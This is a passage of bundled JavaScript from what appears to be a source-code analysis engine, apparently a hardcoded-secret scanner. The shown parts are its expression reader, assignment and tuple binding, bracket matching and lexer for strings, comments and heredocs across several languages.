			const value = readBraces(run, path, from, at, close, context, position, result !== void 0);
			return named$4(tokens, from, close + 1, value);
		} else break;
		at = close + 1;
	}
	return named$4(tokens, from, at, result ?? {
		kind: "ref",
		path
	});
}
/** Of a long chain of calls the last steps: each call keeps its own. */
function withStep(path, step) {
	return path.length < 64 ? [...path, step] : [...path.slice(1), step];
}
/** In PHP a dot joins texts. */
function isConcatenation(kind, language) {
	return kind === Kind.dot && language.name === "php";
}
function named$4({ start, end }, from, next, value) {
	return {
		value,
		start: start[from],
		end: end[next - 1],
		next
	};
}
function inside(run, open, context, kind, newlines) {
	const { path, sink, depth } = context;
	return {
		kind,
		path,
		container: run.tokens.start[open],
		sink,
		newlines,
		depth: depth + 1
	};
}
/** Records the call; its value is that of its only text argument, since wrappers hand it on: `Some("…")`. */
function readCall(run, callee, from, open, close, context) {
	const args = [];
	const container = run.tokens.start[open];
	const depth = context.depth + 1;
	const values = readElements(run, open + 1, close, {
		kind: "args",
		path: [],
		container,
		sink: args,
		newlines: false,
		depth
	});
	run.record(callee, from, close, values.length > 2 ? withoutLabels(args) : args);
	const converts = callee.length > 1 && conversion.test(callee.at(-1));
	const only = values[0]?.value;
	const wraps = values.length === 1 && only?.kind === "ref" && wrapper.test(callee.at(-1));
	if (converts && !wraps && args.every(({ value }) => value.kind !== "text")) return {
		kind: "ref",
		path: callee.slice(0, -1)
	};
	if (values.length > 1 || args.some(({ path }) => path[0] !== "0")) return unknown$1;
	if (callee.length > 1 && callee.at(-1) === "join" && only?.kind === "text" && only.text === "") return {
		kind: "ref",
		path: [...callee.slice(0, -1), joinedStep]
	};
	if (!only) return args.length > 0 ? unknown$1 : {
		kind: "ref",
		path: callee.slice()
	};
	if (only.kind === "text" && only.text.length < longestKey && callee.length > 1 && getter.test(callee.at(-1))) return {
		kind: "ref",
		path: [...callee.slice(0, -1), only.text]
	};
	return only.kind !== "ref" || wraps ? only : unknown$1;
}
/** `Account("anna", "…", "…")`: of more than two arguments one names the next only where it looks like a name of such. */
function withoutLabels(args) {
	const unnamed = new Set(args.filter(({ path }) => /^\d+$/.test(path[0])).map(({ span }) => span.start));
	return args.filter(({ path, span }) => path.length > 1 || /^\d+$/.test(path[0]) || !unnamed.has(span.start) || isTelling$1(path[0]));
}
/** The step of a path that stands for the texts of a list, joined. */
const joinedStep = "[joined]";
/** Functions that hand on what they are given, perhaps in another type. */
const wrapper = /^(?:str|string|bytes|byte|some|ok|just|option|optional|of|ofNullable|from|encode|encoded|buffer|utf8|utf8encode|to_?bytes|get_bytes|GetBytes|data|secret_?str|secret|trim|strip|strdup|c_str|box|unwrap|String|Bytes|Some|Just|Data|Buffer|SecretStr|Array|toCharArray|list|tuple|raw)$/;
/** Methods that give a text again as it is, or nearly so. */
const conversion = /^(?:encode|decode|to_string|to_owned|into|clone|as_str|as_bytes|as_ref|to_bytes|getBytes|get_secret_value|toByteArray|toCharArray|trim|strip|toString|bytes|chars|c_str|data|utf8|unwrap|to_s|freeze|dup|chomp|b|value|get|copy|valueOf|String)$/;
const getter = /^(?:get|getString|getOrDefault|fetch|dig|value|at|item|opt|optString|getProperty|require)$/;
const longestKey = 60;
const unknown$1 = { kind: "unknown" };
/** What a name with braces stands for; undefined where they hold statements. */
function readBraces(run, path, from, open, close, context, position, called) {
	const { tokens, language, bindings } = run;
	const container = tokens.start[open];
	const depth = context.depth + 1;
	if (path.length === 1 && path[0] === "") return readExpression(run, open + 1, close, {
		...context,
		depth
	}, false, false).find(({ value }) => value.kind === "text")?.value ?? unknown$1;
	if (!position.control && !position.statement && (!called || position.constructing)) {
		const args = [];
		const newlines = !language.dictBraces;
		readElements(run, open + 1, close, {
			kind: "object",
			path: [],
			container,
			sink: args,
			newlines,
			depth
		});
		run.record(path, from, close, args);
		return unknown$1;
	}
	const owner = called ? path.slice(0, 1) : ownerOf(tokens, from, path[0]);
	const inner = pathTo(context.path, owner);
	readStatements(run, open + 1, close, {
		kind: "block",
		path: inner,
		container,
		sink: bindings,
		newlines: true,
		depth
	});
}
/** What a block belongs to: the name after `class` or `function`, else the name before the brace. */
function ownerOf(tokens, from, name) {
	const { kind } = tokens;
	for (let at = from - 1; at >= 0 && at >= from - maxDeclaration; at -= 1) {
		if (tokens.means(at, Word.declares) && kind[at + 1] === Kind.word) return [nameAt$1(tokens, at + 1)];
		const here = kind[at];
		if (here === Kind.newline || here === Kind.semicolon || here === Kind.openBrace || here === Kind.closeBrace) break;
	}
	return meaningOf(name) & Word.block ? [] : [name];
}
// ../engine/dist/read/code/single-token.js
/** The value of [from, to) where that is a single token and a value. */
function soleOperand(tokens, from, to) {
	if (to - from !== 1) return void 0;
	const value = soleValue(tokens, from);
	return value && {
		value,
		span: {
			start: tokens.start[from],
			end: tokens.end[from]
		}
	};
}
function soleValue(tokens, at) {
	if (tokens.kind[at] === Kind.string) return stringValue(tokens, at);
	if (tokens.kind[at] !== Kind.word) return void 0;
	if (isLongWord(tokens, at)) return require_worth_reading.verbatim(tokens.text, tokens.start[at], tokens.end[at]);
	if (tokens.detail[at] === 0) return {
		kind: "ref",
		path: [nameAt$1(tokens, at)]
	};
	return isScalar(tokens, at) ? {
		kind: "scalar",
		text: tokens.slice(at)
	} : void 0;
}
/** `1`, `true`, but not the first word of `1.toString()`. */
function isScalar(tokens, at) {
	return tokens.means(at, Word.scalar) && !accessing[tokens.kind[at + 1]];
}
// ../engine/dist/read/code/expression.js
const maxAlternatives = 200;
/**
* The values that [from, to) may stand for: `a ?? "b"` has two, `"a" + "b"` one. What it binds inside, in objects and
* calls, goes to the context's sink.
* @param statement it is one, so that braces hold statements. `control`: it is the head of one
*/
function readExpression(run, from, to, context, statement, control) {
	return new Expression(run, from, to, context, statement, control).read();
}
var Expression = class {
	#run;
	#from;
	#to;
	#context;
	#isStatement;
	#control;
	#operands = [];
	#literal;
	/** An operator that joins stands before what comes next. */
	#joins = false;
	#afterString = false;
	/** A brace at the beginning holds statements. */
	#statement;
	#constructing = false;
	/** The word before, which names a value that follows it without an operator: `--secret abc`. */
	#wordBefore;
	constructor(run, from, to, context, statement, control) {
		this.#run = run;
		this.#from = from;
		this.#to = to;
		this.#context = context;
		this.#isStatement = this.#statement = statement;
		this.#control = control;
	}
	read() {
		const { kind } = this.#run.tokens;
		for (let at = this.#from; at < this.#to;) {
			const here = kind[at];
			if (here === Kind.newline) at += 1;
			else if (here === Kind.string) at = this.#string(at);
			else {
				this.#afterString = false;
				if (here === Kind.word) at = this.#word(at);
				else at = this.#run.tokens.match[at] > at ? this.#brackets(at) : this.#operator(at);
			}
		}
		this.#endLiteral();
		return this.#operands;
	}
	#string(at) {
		const { tokens, language } = this.#run;
		const joined = this.#joined(at);
		if (joined >= 0) return joined;
		const joins = this.#joins || this.#afterString && language.adjacency === true;
		this.#addText(stringValue(tokens, at), tokens.start[at], tokens.end[at], joins);
		this.#afterString = true;
		return this.#endOfChain(at + 1);
	}
	#addText(value, start, end, joins) {
		if (this.#literal && joins) {
			this.#literal.values.push(value);
			this.#literal.end = end;
		} else {
			this.#endLiteral();
			this.#literal = {
				values: [value],
				start,
				end
			};
			if (this.#wordBefore !== void 0) this.#run.bind({
				...this.#context,
				path: []
			}, [this.#wordBefore], "bare", {
				value,
				span: {
					start,
					end
				}
			});
		}
		this.#joins = false;
		this.#wordBefore = void 0;
	}
	#endLiteral() {
		if (this.#literal) {
			const { values, start, end } = this.#literal;
			const value = require_worth_reading.concat(values);
			if (this.#operands.length < maxAlternatives || value.text.length >= 60) this.#operands.push({
				value,
				span: {
					start,
					end
				}
			});
			this.#literal = void 0;
		}
		this.#joins = false;
	}
	#addValue(value, start, end) {
		if (this.#operands.length < maxAlternatives) this.#operands.push({
			value,
			span: {
				start,
				end
			}
		});
	}
	/** Skips what is called on a literal: `.into()`, `.trim()`, `->value`. */
	#endOfChain(at) {
		const { tokens, language } = this.#run;
		const { kind } = tokens;
		const dot = language.name === "php" ? Kind.thinArrow : Kind.dot;
		while (at + 1 < this.#to && (kind[at] === dot || kind[at] === Kind.optionalDot) && kind[at + 1] === Kind.word) {
			at += 2;
			const close = kind[at] === Kind.openParen ? tokens.close(at) : -1;
			if (close >= 0 && close < this.#to) at = close + 1;
		}
		return at;
	}
	#word(at) {
		const { tokens, language } = this.#run;
		const start = tokens.start[at];
		const end = tokens.end[at];
		if (isLongWord(tokens, at)) {
			this.#addText(require_worth_reading.verbatim(tokens.text, start, end), start, end, this.#joins);
			return at + 1;
		}
		const meaning = tokens.detail[at];
		if (meaning & Word.alternating) this.#endLiteral();
		if (meaning & Word.cast) return this.#endOfType(at + 1);
		if (meaning & (Word.prefix | Word.alternating)) {
			if (meaning & Word.new) this.#constructing = true;
			this.#statement = false;
			return at + 1;
		}
		if (isScalar(tokens, at)) {
			this.#addValue({
				kind: "scalar",
				text: tokens.slice(at)
			}, start, end);
			return at + 1;
		}
		const operand = readNamed(this.#run, at, this.#to, this.#context, {
			statement: this.#statement,
			control: this.#control,
			constructing: this.#constructing
		});
		this.#constructing = false;
		const { value } = operand;
		if (value?.kind === "text") this.#addText(value, operand.start, operand.end, this.#joins);
		else if (value) {
			if (this.#joins) this.#endLiteral();
			this.#addValue(value, operand.start, operand.end);
		}
		this.#wordBefore = language.bareWords && value?.kind === "ref" ? tokens.slice(at) : void 0;
		return operand.next;
	}
	#endOfType(at) {
		const { kind } = this.#run.tokens;
		while (at < this.#to && (kind[at] === Kind.word || accessing[kind[at]])) at += 1;
		return at;
	}
	#operator(at) {
		const here = this.#run.tokens.kind[at];
		if (joining[here]) this.#joins = this.#literal !== void 0;
		else if (alternating[here]) this.#endLiteral();
		else if (here === Kind.fatArrow || here === Kind.thinArrow) this.#statement = false;
		return at + 1;
	}
	#brackets(open) {
		const { tokens } = this.#run;
		const close = tokens.match[open];
		if (this.#context.depth <= 64) {
			if (tokens.kind[open] === Kind.openParen) this.#parentheses(open, close);
			else if (tokens.kind[open] === Kind.openBracket) this.#addList(open, close, readElements(this.#run, open + 1, close, this.#inside(open, "list", this.#context.sink)));
			else this.#braces(open, close);
		}
		return close + 1;
	}
	#inside(open, kind, sink) {
		const { path, depth } = this.#context;
		return {
			kind,
			path,
			container: this.#run.tokens.start[open],
			sink,
			newlines: false,
			depth: depth + 1
		};
	}
	/** `"".join(["…", "…"])`: the token behind it; -1 where the string at `at` joins nothing. */
	#joined(at) {
		const { tokens } = this.#run;
		const { kind } = tokens;
		const open = at + 3;
		const close = kind[at + 1] === Kind.dot && tokens.slice(at + 2) === "join" && kind[open] === Kind.openParen ? tokens.close(open) : -1;
		if (close < 0 || close >= this.#to || tokens.contentEnd(at) > tokens.contentStart(at)) return -1;
		const [list] = readElements(this.#run, open + 1, close, this.#inside(open, "list", []));
		if (list?.value.kind === "list") this.#addPieces(list.value.items, tokens.start[at], tokens.end[close]);
		return close + 1;
	}
	/** Texts that a call joins without anything between them. */
	#addPieces(items, start, end) {
		const texts = items.filter((item) => item.kind === "text");
		if (texts.length === items.length && texts.length > 0) this.#addText(require_worth_reading.concat(texts), start, end, this.#joins);
	}
	#addList(open, close, items) {
		if (items.length === 0) return;
		const { kind } = this.#run.tokens;
		if (kind[close + 1] === Kind.dot && this.#run.tokens.slice(close + 2) === "join" && kind[close + 3] === Kind.openParen) {
			const { start, end } = this.#run.tokens.span(open, close + 1);
			this.#addPieces(items.map(({ value }) => value), start, end);
			return;
		}
		const value = {
			kind: "list",
			items: items.map((item) => item.value)
		};
		this.#operands.push({
			value,
			span: this.#run.tokens.span(open, close + 1)
		});
	}
	#parentheses(open, close) {
		const { path, sink } = this.#context;
		const inner = [];
		const items = readElements(this.#run, open + 1, close, this.#inside(open, "list", inner));
		if (items.length > 1) {
			for (const binding of inner) sink.push(binding);
			this.#addList(open, close, items);
			return;
		}
		const first = inner.length > 0 ? pathTo(path, ["0"]) : path;
		for (const binding of inner) if (!isSamePath(binding.path, first)) sink.push(binding);
		const only = items[0];
		if (only?.value.kind === "text") this.#addText(only.value, only.span.start, only.span.end, this.#joins);
	}
	#braces(open, close) {
		const { tokens, language, bindings } = this.#run;
		const { path, sink, depth } = this.#context;
		const isLabelled = this.#isStatement && open > this.#from && tokens.kind[open - 1] === Kind.string;
		if (isLabelled) this.#endLiteral();
		const before = tokens.kind[open - 1];
		const isBlock = isLabelled || this.#control || before === Kind.closeParen && open > this.#from || before === Kind.fatArrow || this.#statement && open === this.#from || before === Kind.thinArrow;
		const inner = {
			kind: isBlock ? "block" : "object",
			path: isLabelled ? pathTo(path, [stringValue(tokens, open - 1).text]) : isBlock && !this.#statement ? [] : path,
			container: tokens.start[open],
			sink: isBlock ? bindings : sink,
			newlines: !language.dictBraces,
			depth: depth + 1
		};
		if (isBlock) readStatements(this.#run, open + 1, close, inner);
		else readElements(this.#run, open + 1, close, inner);
	}
};
function isSamePath(a, b) {
	return a.length === b.length && a.every((step, index) => step === b[index]);
}
/** The names of a tuple on their way to their values: the first to the first, and so on. */
var Tuple = class {
	/** Names whose operator is still to come. */
	#before = [];
	/** Names, behind the operator, whose values are still to come. */
	#after = [];
	get isEmpty() {
		return this.#before.length === 0 && this.#after.length === 0;
	}
	/** The name for the value right behind the operator. */
	get firstName() {
		return this.#before[0];
	}
	/** Takes the next item; returns the name of its values when the tuple has one. */
	nameOf({ path, target }) {
		if (path) {
			if (this.#before.length < 32) this.#before.push(path);
			else this.#before = [];
			return;
		}
		if (target) {
			this.#after = this.#before.length > 0 ? [...this.#before.slice(1), target] : [];
			this.#before = [];
			return;
		}
		return this.#after.shift();
	}
	end() {
		if (this.isEmpty) return;
		this.#before = [];
		this.#after = [];
	}
};
// ../engine/dist/read/code/items.js
/** An element that names the one after it: `put("api_key", "…")`, `--secret …`. */
const label = /^-{0,2}[A-Za-z_$][\w .$-]{0,47}:?$/;
/** What names the item after it in a list of many, where anything may stand before a value. */
function isTelling$1(label) {
	return /^-|^[A-Z][A-Z\d_]+$|[^\x00-\x7f]/.test(label) || /key|secret|token|pass|api|auth|cred|sign|mbx/i.test(label);
}
/** First arguments that name no second one: `createHmac('sha256', secret)`. */
const noLabel = /^(?:hmac[-_]?)?(?:sha|md)-?\d*$|^(?:hex|base64|utf-?8|ascii|get|post|put|delete|binance|live|test|testnet|prod|main|default)$/i;
/** Reads all statements of [from, to), but for those that tell of no value. */
function readStatements(run, from, to, context) {
	const { tokens, marks } = run;
	const tuple = new Tuple();
	for (let at = tokens.skipNewlines(from, to); at < to;) {
		const end = endOfItem(tokens, at, to, context.newlines);
		const isPart = tokens.kind[end] === Kind.comma;
		if (end > at) {
			if (!isPart && tuple.isEmpty && marks.none(at, end)) run.passedOver.push(at, end);
			else {
				const item = readItem(run, at, end, context, 0, tuple.firstName);
				const name = tuple.nameOf(item);
				if (name) for (const operand of item.values) run.bind(context, name, "assign", operand);
				if (!isPart) tuple.end();
			}
		}
		at = tokens.skipNewlines(end < to ? end + 1 : to, to);
	}
}
/** Reads the entries, arguments or elements of [from, to) and returns the values of those that have no name. */
function readElements(run, from, to, context) {
	const { tokens } = run;
	const unnamed = [];
	let index = 0;
	for (let at = tokens.skipNewlines(from, to); at < to;) {
		const end = endOfItem(tokens, at, to, context.newlines);
		if (end > at) {
			const { values, target } = readItem(run, at, end, context, index);
			if (!target) {
				bindUnnamed(run, values, unnamed.at(-1), context, index);
				for (const operand of values) if (isKept(unnamed, operand.value)) unnamed.push(operand);
				index += 1;
			}
		}
		at = tokens.skipNewlines(end < to ? end + 1 : to, to);
	}
	return unnamed;
}
/** Binds an element's values to its index and, where the element before it is a label, to that. */
function bindUnnamed(run, values, before, context, index) {
	const isArgument = context.kind === "args";
	const via = isArgument ? "argument" : "entry";
	for (const operand of values) {
		const isText = operand.value.kind === "text";
		if (!isArgument && !isText) continue;
		run.bind(context, [String(index)], via, operand);
		if (!(isText || operand.value.kind === "ref") || before?.value.kind !== "text") continue;
		const { text } = before.value;
		if (label.test(text) && !noLabel.test(text) && (isArgument || isTelling$1(text))) run.bind(context, [text], via, operand);
	}
}
/** One item: `name = value`, `"key": value`, `a="1" b="2"`, or a value alone. */
function readItem(run, from, to, context, index, tupleName) {
	const { tokens } = run;
	const isBlock = context.kind === "block";
	const only = soleOperand(tokens, from, to);
	if (only && (!isBlock || only.value.kind === "text")) return { values: [only] };
	const control = tokens.means(from, Word.block);
	const assignments = assignmentsOf(tokens, from, to);
	const [first] = assignments;
	if (first) {
		if (first.start > from && !control) readExpression(run, from, first.start, context, true, true);
		return readAssignments(run, assignments, to, context, control, tokens.means(from, Word.clause), tupleName);
	}
	const path = isBlock && !control ? purePath(tokens, from, to) : void 0;
	if (path) return {
		values: [],
		path
	};
	const values = readExpression(run, from, to, context.kind === "args" || context.kind === "list" ? {
		...context,
		path: [...context.path, String(index)]
	} : context, isBlock, control);
	if (isBlock && (tokens.means(from, Word.returns) || context.depth > 0 && tokens.kind[from] === Kind.string)) bindReturned(run, from, values, context);
	return { values };
}
/** How far before a `return` the function's head is looked for, in tokens. */
const maxBody = 120;
/** What a function returns is known by its name. */
function bindReturned(run, from, values, context) {
	const { tokens } = run;
	if (!values.some(({ value }) => value.kind === "text")) return;
	let name = context.path.at(-1);
	for (let at = from - 1; name === void 0 && at > 0 && at > from - maxBody; at -= 1) if (tokens.means(at - 1, Word.declares) && tokens.kind[at] === Kind.word) name = nameAt$1(tokens, at);
	if (name === void 0) return;
	for (const operand of values) if (operand.value.kind === "text") run.bind({
		...context,
		path: []
	}, [name], "assign", operand);
}
/** @param clause a colon may end the item's head: `if x: key = "…"` */
function readAssignments(run, assignments, to, context, control, clause, tupleName) {
	const { tokens } = run;
	let target;
	let values = [];
	/** Names that wait for their value: two in `a = b = "…"`. */
	let names = [];
	let isType = false;
	for (let k = 0; k < assignments.length; k += 1) {
		const { at, operator, name, group } = assignments[k];
		const next = assignments[k + 1];
		if (clause && assignments[k - 1]?.operator === Kind.colon) names = [];
		const isNamed = name !== void 0 && !isType;
		if (isNamed && names.length < 32) names = [...names, name];
		const start = tokens.skipNewlines(at + 1, to);
		const end = next?.start ?? to;
		isType = operator === Kind.colon && next?.operator === Kind.equals && !clause && !hasText(tokens, start, end);
		if (isType || start >= end) continue;
		if (tupleName) names = [tupleName];
		values = readValue(run, start, end, context, names[0] ?? [], control);
		if (group >= 0) readGroup(run, group, values, context, start, end);
		const isEntry = operator === Kind.colon || operator === Kind.fatArrow || context.kind === "object";
		const via = context.kind === "args" ? "argument" : isEntry ? "entry" : "assign";
		const bound = values.length > 0 ? values : [{
			value: unknown,
			span: tokens.span(start, end)
		}];
		for (const waiting of names) for (const operand of bound) run.bind(context, waiting, via, operand);
		if (group >= 0) target = [];
		else if (isNamed) target = name;
		names = [];
	}
	return {
		values,
		target
	};
}
/** What is bound to the name, which is also that of the container where the value is one. */
function readValue(run, from, to, context, name, control) {
	const only = soleOperand(run.tokens, from, to);
	if (only) return [only];
	return readExpression(run, from, to, {
		...context,
		path: pathTo(context.path, name)
	}, false, control);
}
const unknown = { kind: "unknown" };
/** `[key, secret] = ["…", "…"]`, `const { apiKey = "…" } = …`, `(k, s) = (…)`. */
function readGroup(run, open, values, context, valueStart, valueEnd) {
	const { tokens } = run;
	const close = tokens.close(open);
	if (close < 0) return;
	if (tokens.kind[open] === Kind.openBrace) {
		readElements(run, open + 1, close, {
			...context,
			kind: "object",
			newlines: false,
			depth: context.depth + 1
		});
		return;
	}
	const only = values.length === 1 ? values[0]?.value : void 0;
	const items = only?.kind === "list" ? only.items : values.map(({ value }) => value);
	const span = tokens.span(valueStart, valueEnd);
	let index = 0;
	for (let at = open + 1; at < close;) {
		const end = endOfItem(tokens, at, close, false);
		const name = purePath(tokens, at, end);
		const value = items[index];
		if (name && value) run.bind(context, name, "assign", {
			value,
			span: value.kind === "text" ? extent(value, span) : span
		});
		index += 1;
		at = end + 1;
	}
}
function extent({ pieces }, fallback) {
	const first = pieces[0];
	const last = pieces.at(-1);
	return first && last ? {
		start: first.source.start,
		end: last.source.end
	} : fallback;
}
// ../engine/dist/read/code/brackets.js
/** Pairs the brackets of a text. */
/** By the kind of a closing bracket that of its opening, and the kinds of openings themselves. */
const openingOf$1 = /* @__PURE__ */ new Uint8Array(256);
openingOf$1[Kind.closeParen] = Kind.openParen;
openingOf$1[Kind.closeBracket] = Kind.openBracket;
openingOf$1[Kind.closeBrace] = Kind.openBrace;
const opens = /* @__PURE__ */ new Uint8Array(256);
for (const kind of [
	Kind.openParen,
	Kind.openBracket,
	Kind.openBrace
]) opens[kind] = 1;
/**
* Fills `tokens.match`. A closing bracket that fits no open one is left alone; one that fits closes all that were
* opened since, and these stay without partner.
*/
function matchBrackets(tokens) {
	const { kind, match, length } = tokens;
	const open = [];
	/** How many of each kind are open: without it every stray closing bracket would be a search. */
	const counts = /* @__PURE__ */ new Uint32Array(256);
	for (let index = 0; index < length; index += 1) {
		const here = kind[index];
		if (opens[here]) {
			open.push(index);
			counts[here] += 1;
			continue;
		}
		const opening = openingOf$1[here];
		if (opening === 0 || counts[opening] === 0) continue;
		for (let top = open.pop(); top !== void 0; top = open.pop()) {
			const topKind = kind[top];
			counts[topKind] -= 1;
			if (topKind !== opening) continue;
			match[top] = index;
			match[index] = top;
			break;
		}
	}
}
/** For each token the opening bracket of what it stands in, -1 for none. */
function bracketsAround({ match, length }) {
	const around = new Int32Array(length).fill(-1);
	let open = -1;
	for (let index = 0; index < length; index += 1) {
		const partner = match[index];
		if (partner >= 0 && partner < index) open = around[partner];
		around[index] = open;
		if (partner > index) open = index;
	}
	return around;
}
// ../engine/dist/read/code/characters.js
/** What a character may be, as bits. */
const Char = {
	word: 1,
	string: 2,
	comment: 4,
	blank: 8
};
/** Its lines, as they stand. */
const heredoc = {
	open: "",
	close: "",
	escape: "none",
	multiline: true
};
const known$15 = /* @__PURE__ */ new WeakMap();
function charactersOf(language) {
	const before = known$15.get(language);
	if (before) return before;
	const classes = /* @__PURE__ */ new Uint8Array(128);
	const mark = (texts, bit) => {
		for (const text of texts) classes[text.charCodeAt(0)] |= bit;
	};
	for (let code = 0; code < 128; code += 1) if (/\w/.test(String.fromCharCode(code))) classes[code] = Char.word;
	mark([
		" ",
		"	",
		"\r"
	], Char.blank);
	mark([...language.wordExtra], Char.word);
	mark([...language.lineComments, ...language.blockComments.map(([open]) => open)], Char.comment);
	const forms = [heredoc];
	const opening = Array.from({ length: 128 }, () => []);
	for (const [number, form] of language.strings.entries()) {
		mark([form.open], Char.string);
		opening[form.open.charCodeAt(0)].push({
			...form,
			number
		});
		forms.push(form, {
			...form,
			escape: "none"
		});
	}
	const characters = {
		classes,
		opening,
		forms
	};
	known$15.set(language, characters);
	return characters;
}
/** Full-width punctuation that people type between a label and a value: `密钥：…`. */
function isWidePunctuation(code) {
	return code === 65306 || code === 65309 || code === 65292 || code === 65307 || code === 12288 || code === 160 || code >= 8216 && code <= 8223 || code >= 12289 && code <= 12305;
}
/** Blanks beyond ASCII: a no-break space, a byte-order mark, a full-width space. */
function isWideBlank(code) {
	return code === 160 || code === 65279 || code === 12288;
}
// ../engine/dist/read/code/heredocs.js
const openings = {
	shell: /<<-?[ \t]*(['"]?)([A-Za-z_]\w*)\1/y,
	php: /<<<[ \t]*(['"]?)([A-Za-z_]\w*)\1/y,
	ruby: /<<[~-]?(['"`]?)([A-Z_]\w*)\1/y
};
/** The heredoc that is announced at `at`: the tag that ends it, and where the announcement ends. */
function heredocAt(text, at, style) {
	const opening = openings[style];
	opening.lastIndex = at;
	const found = opening.exec(text);
	return found ? {
		tag: found[2] ?? "",
		after: at + found[0].length
	} : void 0;
}
/** Where the line with the tag begins; `from` when there is none before `to`. */
function endOfHeredoc(text, from, to, tag) {
	for (let line = from; line < to;) {
		const end = text.indexOf("\n", line);
		const stop = end < 0 || end > to ? to : end;
		if (text.slice(line, Math.min(stop, line + tag.length + 40)).trim().replace(/[;,)]{1,3}$/, "") === tag) return line;
		line = stop + 1;
	}
	return from;
}
// ../engine/dist/read/code/lexer.js
/** So many kinds of strings and heredocs without an end, and no more heredocs are looked for. */
const maxUnclosed = 50;
/** So much room tokens have before they need more: half of what dense code takes. */
const minTokens = 16;
const charactersPerToken = 10;
/** No regular expression is longer. */
const maxRegex = 500;
/** A document is lexed to be read, and once more by each rule that looks at its words: what is this long is kept meanwhile. */
const worthKeeping = 4096;
/** Of the last whole text; weakly, since there may be credentials in it. */
let latest;
/** Lexes the part [from, to) of a text. Offsets in tokens are offsets in the whole text. */
function lex(text, language, from = 0, to = text.length) {
	const isKept = text.length >= worthKeeping && to - from === text.length;
	const known = isKept ? latest?.deref() : void 0;
	if (known && known.language === language && known.text === text) return known;
	const tokens = new Lexer(text, language, from, to).run();
	matchBrackets(tokens);
	if (isKept) latest = new WeakRef(tokens);
	return tokens;
}
/** Each of its methods reads one kind of token at an offset, and returns where that ends: where it began if none is there. */
var Lexer = class {
	#text;
	#language;
	#from;
	#to;
	#tokens;
	#characters;
	/** Openings of multi-line forms and tags of heredocs that have no end from some offset on, and so none further on. */
	#unclosed = /* @__PURE__ */ new Set();
	/** For a form of a single line the offset up to which it has no end. */
	#gaveUp = /* @__PURE__ */ new Map();
	/** Tags of the heredocs that begin on the next line. */
	#heredocs = [];
	/** Whether the string whose end was found last has escapes. */
	#escaped = false;
	constructor(text, language, from, to) {
		this.#text = text;
		this.#language = language;
		this.#from = from;
		this.#to = to;
		this.#characters = charactersOf(language);
		const capacity = minTokens + Math.ceil((to - from) / charactersPerToken);
		this.#tokens = new Tokens(text, language, this.#characters.forms, capacity);
	}
	run() {
		const { classes } = this.#characters;
		const text = this.#text;
		const to = this.#to;
		for (let at = this.#from; at < to;) {
			const code = text.charCodeAt(at);
			if (code === Kind.newline) {
				at = this.#newline(at);
				continue;
			}
			const bits = code < 128 ? classes[code] : isWideBlank(code) ? Char.blank : isWidePunctuation(code) ? 0 : Char.word;
			if (bits & Char.blank) {
				at += 1;
				continue;
			}
			let end = at;
			if (bits & Char.comment) end = this.#comment(at);
			if (end === at && bits & Char.string) end = this.#string(at, at, false);
			if (end === at && bits & Char.word) end = this.#word(at);
			if (end === at && code === Kind.slash && this.#language.regex) end = this.#regex(at);
			if (end === at && code === Kind.less && this.#language.heredoc) end = this.#heredoc(at);
			at = end === at ? this.#operator(at) : end;
		}
		return this.#tokens;
	}
	#newline(at) {
		this.#tokens.push(Kind.newline, at, at + 1);
		at += 1;
		if (this.#heredocs.length === 0) return at;
		for (const tag of this.#heredocs) {
			const end = !this.#unclosed.has(tag) && this.#unclosed.size <= maxUnclosed ? endOfHeredoc(this.#text, at, this.#to, tag) : at;
			if (end > at) this.#tokens.pushHeredoc(at, end);
			else this.#unclosed.add(tag);
			at = end;
		}
		this.#heredocs = [];
		return at;
	}
	#operator(at) {
		const kind = operatorAt(this.#text, at);
		const end = at + lengthOf[kind];
		this.#tokens.push(kind, at, end);
		return end;
	}
	#word(at) {
		const { classes } = this.#characters;
		const text = this.#text;
		const to = this.#to;
		let end = at + 1;
		for (; end < to; end += 1) {
			const code = text.charCodeAt(end);
			if (code < 128 ? !(classes[code] & Char.word) : isWidePunctuation(code)) break;
		}
		const { prefixes } = this.#language;
		if (prefixes && end - at <= 3 && end < to && (classes[text.charCodeAt(end)] ?? 0) & Char.string) {
			const prefix = text.slice(at, end);
			const after = prefixes.test(prefix) ? this.#string(at, end, /r/i.test(prefix)) : end;
			if (after > end) return after;
		}
		this.#tokens.push(Kind.word, at, end, meaningOfWord(text, at, end));
		return end;
	}
	/** @param quote where its opening begins, behind its prefix. `raw`: escapes mean nothing. Without a string `quote` is returned. */
	#string(at, quote, raw) {
		const form = this.#formAt(quote);
		if (!form) return quote;
		const content = quote + form.open.length;
		const close = this.#closeOf(form, content);
		const end = close + form.close.length;
		if (close < 0 || end > this.#to) return quote;
		this.#tokens.pushString(at, end, form.number, content - at, raw || !this.#escaped);
		return end;
	}
	#formAt(at) {
		const forms = this.#characters.opening[this.#text.charCodeAt(at)];
		for (const form of forms) if (form.open.length === 1 || this.#text.startsWith(form.open, at)) return form;
	}
	/**
	* Offset of the closing delimiter, negative without one. A form that found no end once is not looked for again where
	* it cannot have one: this keeps files and lines of openings linear.
	*/
	#closeOf(form, at) {
		if (form.multiline ? this.#unclosed.has(form.open) : at <= (this.#gaveUp.get(form) ?? -1)) return -1;
		const end = this.#endOfString(form, at);
		if (end < 0 && form.multiline) this.#unclosed.add(form.open);
		else if (end < 0 && form.escape !== "doubled") this.#gaveUp.set(form, ~end);
		return end;
	}
	/** Offset of the closing delimiter; without one `~at`, where `at` is the offset up to which there is none. */
	#endOfString({ close, escape, multiline }, from) {
		const text = this.#text;
		const to = this.#to;
		const closeCode = close.charCodeAt(0);
		this.#escaped = false;
		if (multiline && escape === "none") {
			const end = text.indexOf(close, from);
			return end < 0 || end >= to ? -1 : end;
		}
		for (let at = from; at < to; at += 1) {
			const code = text.charCodeAt(at);
			if (code === closeCode && (close.length === 1 || text.startsWith(close, at))) {
				if (escape !== "doubled" || text.charCodeAt(at + 1) !== closeCode || at + 1 >= to) return at;
				this.#escaped = true;
				at += 1;
			} else if (code === 10 && !multiline) return ~at;
			else if (code === 92 && escape === "backslash" || code === 96 && escape === "backtick") {
				this.#escaped = true;
				at += 1;
				if (code === 92 && text.charCodeAt(at) === 13 && text.charCodeAt(at + 1) === 10) at += 1;
			}
		}
		return ~to;
	}
	#heredoc(at) {
		const heredoc = this.#language.heredoc && heredocAt(this.#text, at, this.#language.heredoc);
		if (!heredoc) return at;
		this.#heredocs.push(heredoc.tag);
		return heredoc.after;
	}
	#comment(at) {
		const end = this.#endOfComment(at);
		if (end > at) this.#tokens.comments.push({
			start: at,
			end
		});
		return end;
	}
	#endOfComment(at) {
		const text = this.#text;
		const to = this.#to;
